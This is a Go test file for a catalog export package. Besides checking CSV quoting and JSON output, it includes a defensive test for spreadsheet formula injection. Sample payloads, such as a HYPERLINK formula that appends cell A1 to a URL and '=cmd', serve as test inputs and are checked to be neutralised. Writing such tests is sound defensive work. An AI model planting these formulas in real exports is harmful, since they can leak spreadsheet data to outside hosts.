package export_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/portico-dev/portico/catalog/export"
)

func written(t *testing.T, format export.Format, columns []string, documents ...string) string {
	t.Helper()
	var out strings.Builder
	file := export.New(format, &out, columns)
	for _, document := range documents {
		require.NoError(t, file.Add(json.RawMessage(document)))
	}
	require.NoError(t, file.End())
	return out.String()
}

const shop = `{"kind":"Component","metadata":{"name":"shop","description":"Sells, \"gladly\"\nand often","tags":["go","web"],"annotations":{"acme.example.com/cost.center":"42"},"links":[{"url":"https://example.com"}]},
	"spec":{"type":"service","replicas":-3,"public":true,"owner":null},"relations":[{"type":"ownedBy","targetRef":"group:default/a"},{"type":"ownedBy","targetRef":"group:default/b"},{"type":"partOf","targetRef":"system:default/till"}]}`

// TestCSV: every value is in its cell, and is read back by a reader of CSV.
func TestCSV(t *testing.T) {
	t.Parallel()
	columns := []string{"kind", "metadata.name", "metadata.description", "metadata.tags", "metadata.annotations.acme.example.com/cost.center",
		"metadata.links", "spec.replicas", "spec.public", "spec.owner", "spec.type.deeper", "relations.ownedBy", "relations.none"}
	file := written(t, export.CSV, columns, shop)
	rows, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{columns, {"Component", "shop", "Sells, \"gladly\"\nand often", "go, web", "42",
		`[{"url":"https://example.com"}]`, "-3", "true", "", "", "group:default/a, group:default/b", ""}}, rows)
	require.True(t, strings.HasPrefix(file, `"kind","metadata.name",`), "every cell is quoted")
	require.True(t, strings.HasSuffix(file, "\r\n"))

	rows, err = csv.NewReader(strings.NewReader(written(t, export.CSV, nil, shop))).ReadAll()
	require.NoError(t, err)
	require.Equal(t, export.DefaultColumns(), rows[0])
	require.Equal(t, []string{"Component", "", "shop", "", "Sells, \"gladly\"\nand often", "service", "", "group:default/a, group:default/b", "system:default/till", "go, web"}, rows[1])
	require.Equal(t, "\"kind\"\r\n", written(t, export.CSV, []string{"kind"}), "an export of nothing has a header")
}

// TestFormulasAreInert: a spreadsheet shows the text and evaluates nothing, wherever the text comes from.
func TestFormulasAreInert(t *testing.T) {
	t.Parallel()
	for text, expected := range map[string]string{
		`=HYPERLINK("https://example.com?"&A1)`: `'=HYPERLINK("https://example.com?"&A1)`,
		"+1":                                    "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "  =1": "'  =1",
		"\u00a0=1": "'\u00a0=1", "＝1": "'＝1", "＠x": "'＠x",
		"a=1": "a=1", "'=1": "'=1", "": "", " ": " ", "é": "é",
	} {
		document, err := json.Marshal(map[string]any{"metadata": map[string]any{"title": text, "tags": []string{text}},
			"relations": []any{map[string]any{"type": "ownedBy", "targetRef": text}}})
		require.NoError(t, err)
		rows, err := csv.NewReader(strings.NewReader(written(t, export.CSV, []string{"metadata.title", "metadata.tags", "relations.ownedBy", "=cmd"}, string(document)))).ReadAll()
		require.NoError(t, err)
		// A reader of CSV makes \r\n of a quoted cell \n, and keeps a lone \r.
		require.Equal(t, []string{expected, expected, expected, ""}, rows[1], "%q", text)
		require.Equal(t, "'=cmd", rows[0][3], "the header comes from the address of the request")
	}
}

// TestJSON: the documents are written as they are.
func TestJSON(t *testing.T) {
	t.Parallel()
	require.Equal(t, "[]\n", written(t, export.JSON, nil))
	require.Equal(t, "[\n{\"b\":1,\"a\":2},\n{}\n]\n", written(t, export.JSON, nil, `{"b":1,"a":2}`, `{}`))
}
